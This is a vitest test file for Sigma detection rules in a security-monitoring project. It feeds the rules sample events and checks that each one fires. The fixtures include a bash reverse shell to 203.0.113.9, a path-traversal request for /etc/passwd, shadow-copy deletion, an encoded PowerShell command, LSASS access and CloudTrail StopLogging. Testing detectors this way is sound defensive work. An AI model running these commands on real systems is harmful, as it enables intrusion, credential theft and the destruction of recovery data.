import { readdirSync, readFileSync } from 'node:fs';
import { createCorrelations, createEngine, readRules, viewEvent } from '@soc/sigma';
import { expect, test } from 'vitest';

const folder = new URL('../../rules/', import.meta.url);
const files = readdirSync(folder).map((file) => ({ file, text: readFileSync(new URL(file, folder), 'utf8') }));
const { rules, refusals } = readRules(files);
const detections = rules.filter((rule) => rule.kind === 'detection');
const engine = createEngine(detections);

test('our own rules are read and run, and each names its author, licence and technique', () => {
  expect([refusals, engine.refusals]).toEqual([[], []]);
  expect(createCorrelations(rules, { latenessMs: 0, maxEntries: 100 }).refusals).toEqual([]);
  expect(rules).toHaveLength(files.length);
  for (const { author, license, tags } of rules) {
    expect([author, license, tags.some((tag) => /^attack\.t\d/.test(tag))]).toEqual([
      'The SOC Agent project',
      'Apache-2.0',
      true,
    ]);
  }
});

type Raw = Readonly<Record<string, unknown>>;

const sysmon = (id: number, data: object): Raw => ({
  Event: { System: { EventID: id, Channel: 'Microsoft-Windows-Sysmon/Operational' }, EventData: data },
});
const log = (channel: string, id: number, data: object = {}): Raw => ({
  Event: { System: { EventID: id, Channel: channel }, EventData: data },
});

test.each<[string, Raw]>([
  [
    'LSASS memory',
    sysmon(10, {
      TargetImage: String.raw`C:\Windows\System32\lsass.exe`,
      SourceImage: String.raw`C:\Users\a\x.exe`,
      GrantedAccess: '0x1010',
    }),
  ],
  [
    'Office program',
    sysmon(1, { ParentImage: String.raw`C:\Office\WINWORD.EXE`, Image: String.raw`C:\Windows\System32\cmd.exe` }),
  ],
  [
    'PowerShell is given',
    sysmon(1, { Image: String.raw`C:\W\powershell.exe`, CommandLine: `powershell -enc ${'QQBB'.repeat(12)}` }),
  ],
  ['Shadow copies', sysmon(1, { Image: String.raw`C:\W\vssadmin.exe`, CommandLine: 'vssadmin Delete Shadows /all' })],
  ['event log was cleared', log('Security', 1102)],
  ['group of administrators', log('Security', 4732, { TargetUserName: 'Administrators' })],
  ['service was installed', log('System', 7045, { ImagePath: '%COMSPEC% /c x' })],
  ['A logon failed', log('Security', 4625)],
  [
    'CloudTrail was stopped',
    { eventVersion: '1.08', eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' },
  ],
  [
    'root account of AWS',
    {
      eventVersion: '1.08',
      eventSource: 'signin.amazonaws.com',
      eventName: 'ConsoleLogin',
      userIdentity: { type: 'Root' },
    },
  ],
])('the rule for “%s” matches what it is about', (title, event) => {
  const matched = engine.match(viewEvent(event)).map(({ rule }) => rule.title);
  expect(matched).toEqual([expect.stringContaining(title)]);
});

test.each([
  ['process_creation', 'linux', { CommandLine: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' }, 'A shell is connected'],
  ['webserver', 'any', { 'cs-uri-query': '/a/../../etc/passwd' }, 'A web request climbs'],
])('rules of %s match events of a source that is named', (category, product, event, title) => {
  const view = viewEvent(event, `product=${product},category=${category}`);
  expect(engine.match(view).map(({ rule }) => rule.title)).toEqual([expect.stringContaining(title)]);
});
